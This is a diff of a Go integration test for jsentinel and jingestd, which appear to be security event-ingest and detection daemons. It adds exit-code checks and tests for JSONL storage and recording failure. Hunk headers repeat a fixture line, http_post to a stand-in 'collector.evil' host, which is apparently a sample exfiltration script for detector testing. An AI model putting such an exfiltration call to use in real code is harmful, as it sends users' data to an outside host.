@@ -66,9 +66,9 @@ func (b *syncBuf) String() string {
 
 // startDaemon launches a long-running command, waits until its stdout
 // announces the bound address ("... on http://ADDR ..."), and returns
-// the address plus a stop func that SIGTERMs the process, waits for a
-// clean exit, and returns the full combined output.
-func startDaemon(t *testing.T, bin string, args ...string) (addr string, stop func() string) {
+// the address plus a stop func that SIGTERMs the process, waits for it
+// to exit with wantExit, and returns the full combined output.
+func startDaemon(t *testing.T, bin string, args ...string) (addr string, stop func(wantExit int) string) {
 	t.Helper()
 	cmd := exec.Command(bin, args...)
 	out := &syncBuf{}
@@ -90,16 +90,16 @@ func startDaemon(t *testing.T, bin string, args ...string) (addr string, stop fu
 		}
 		time.Sleep(10 * time.Millisecond)
 	}
-	stop = func() string {
+	stop = func(wantExit int) string {
 		if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
 			t.Fatalf("SIGTERM: %v", err)
 		}
 		done := make(chan error, 1)
 		go func() { done <- cmd.Wait() }()
 		select {
-		case err := <-done:
-			if err != nil {
-				t.Fatalf("%s exited uncleanly after SIGTERM: %v\n%s", filepath.Base(bin), err, out.String())
+		case <-done:
+			if got := cmd.ProcessState.ExitCode(); got != wantExit {
+				t.Fatalf("%s exited %d after SIGTERM, want %d:\n%s", filepath.Base(bin), got, wantExit, out.String())
 			}
 		case <-time.After(15 * time.Second):
 			_ = cmd.Process.Kill()
@@ -462,7 +462,7 @@ func TestCLITools(t *testing.T) {
 		if err != nil {
 			t.Fatalf("%v\n%s", err, rout)
 		}
-		if !strings.Contains(rout, "history: recorded to") {
+		if !strings.Contains(rout, "jsentinel: history recorded to") {
 			t.Errorf("replay did not report its history:\n%s", rout)
 		}
 		hq, err := runTool(t, filepath.Join(bin, "jsentinel"), "query", "--topk", "50", histDir)
@@ -682,7 +682,7 @@ http_post("http://collector.evil/drop", w)`, nil); err != nil {
 			}
 			resp.Body.Close()
 		}
-		out := stop()
+		out := stop(0)
 		if !strings.Contains(out, "shutting down") {
 			t.Errorf("missing shutdown message:\n%s", out)
 		}
@@ -743,7 +743,7 @@ http_post("http://collector.evil/drop", w)`, nil); err != nil {
 				t.Fatalf("%s: ingest status %d: %s", tenant, resp.StatusCode, body)
 			}
 		}
-		live := stop()
+		live := stop(0)
 
 		// incidentTable extracts the "top N incidents by risk" table:
 		// header line through the last aligned row (jsentinel prints
@@ -784,6 +784,84 @@ http_post("http://collector.evil/drop", w)`, nil); err != nil {
 		if got := incidentTable(replay); got != liveTable {
 			t.Fatalf("replay incident table diverges from live run:\n--- live ---\n%s\n--- replay ---\n%s",
 				liveTable, got)
+		}
+	})
+
+	t.Run("jingestd-jsonl-store", func(t *testing.T) {
+		// A .jsonl --store is a flat stream: it records events and keeps
+		// no history, rather than making a history/ directory the
+		// stream cannot then be created over.
+		dir := t.TempDir()
+		path := filepath.Join(dir, "x.jsonl")
+		tenants := "acme=s"
+		tok, err := runTool(t, filepath.Join(bin, "jingestd"), "--tenants", tenants, "--mint", "acme")
+		if err != nil {
+			t.Fatalf("mint: %v\n%s", err, tok)
+		}
+		addr, stop := startDaemon(t, filepath.Join(bin, "jingestd"),
+			"--addr", "127.0.0.1:0", "--tenants", tenants, "--store", path)
+		req, err := http.NewRequest(http.MethodPost, "http://"+addr+"/ingest",
+			strings.NewReader(`{"kind":"auth","time":"2026-08-08T12:00:00Z","src_ip":"203.0.113.5","op":"password","success":false}`+"\n"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.Header.Set("X-Tenant", "acme")
+		req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(tok))
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusOK {
+			t.Fatalf("ingest status %d", resp.StatusCode)
+		}
+		out := stop(0)
+
+		f, err := os.Open(path)
+		if err != nil {
+			t.Fatalf("no JSONL recording: %v\n%s", err, out)
+		}
+		defer f.Close()
+		if st, err := f.Stat(); err != nil || !st.Mode().IsRegular() {
+			t.Fatalf("%s is not a regular file: %v", path, err)
+		}
+		n := 0
+		for dec := trace.NewDecoder(f); ; n++ {
+			if _, err := dec.Next(); err != nil {
+				break
+			}
+		}
+		if n != 1 {
+			t.Errorf("%s holds %d decodable events, want 1:\n%s", path, n, out)
+		}
+		if entries, _ := os.ReadDir(dir); len(entries) != 1 {
+			t.Errorf("a .jsonl store left %d entries beside it, want only x.jsonl (no history/): %v", len(entries), entries)
+		}
+	})
+
+	t.Run("jsentinel-failed-recording-exits-1", func(t *testing.T) {
+		// A recording that cannot be flushed at shutdown is a failed run:
+		// the tap records into /dev/full, where every write fails.
+		if _, err := os.Stat("/dev/full"); err != nil {
+			t.Skip("no /dev/full")
+		}
+		path := filepath.Join(t.TempDir(), "tap.jsonl")
+		if err := os.Symlink("/dev/full", path); err != nil {
+			t.Fatal(err)
+		}
+		addr, stop := startDaemon(t, filepath.Join(bin, "jsentinel"),
+			"--listen", "127.0.0.1:0", "--log", path, "--alerts=false")
+		resp, err := http.Get("http://" + addr + "/api/status")
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		out := stop(1)
+		if !strings.Contains(out, "jsentinel: event recording: ") {
+			t.Errorf("recording failure not reported:\n%s", out)
+		}
+		if strings.Contains(out, "tapped stream recorded to") {
+			t.Errorf("failed recording reported success:\n%s", out)
 		}
 	})
 
